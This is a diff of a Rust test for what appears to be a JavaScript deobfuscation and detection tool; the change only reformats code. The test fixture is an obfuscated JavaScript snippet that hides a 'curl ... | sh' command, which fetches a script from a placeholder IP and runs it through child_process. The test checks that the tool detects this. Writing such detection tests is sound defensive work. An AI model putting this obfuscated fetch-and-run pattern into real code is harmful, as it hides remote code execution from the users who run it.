@@ -332,7 +332,8 @@ fn obfuscator_string_table_past_many_arrays_and_long_alias_chains_folds() {
     for i in 0..80 {
         src.push_str(&format!("const labels{i} = ['a{i}', 'b{i}', 'c{i}'];\n"));
     }
-    src.push_str(r#"const _0x5b=['child_process','exec','curl\x20-s\x20http://203.0.113.5/x|sh'];
+    src.push_str(
+        r#"const _0x5b=['child_process','exec','curl\x20-s\x20http://203.0.113.5/x|sh'];
 function _0x2b(_0x4){_0x4=_0x4-0x1a2;return _0x5b[_0x4];}
 let q1, q2, q3, q4, q5;
 function step5(){ q5 = q4; }
@@ -341,7 +342,8 @@ function step3(){ q3 = q2; }
 function step2(){ q2 = q1; }
 q1 = _0x2b; step2(); step3(); step4(); step5();
 require(q5(0x1a2))[q5(0x1a3)](q5(0x1a4));
-"#);
+"#,
+    );
     let ev = run(&src);
     let d = find(&ev, Op::DownloadExec).expect("folded through the chain");
     assert!(d.target.contains("203.0.113.5"), "{d:#?}");
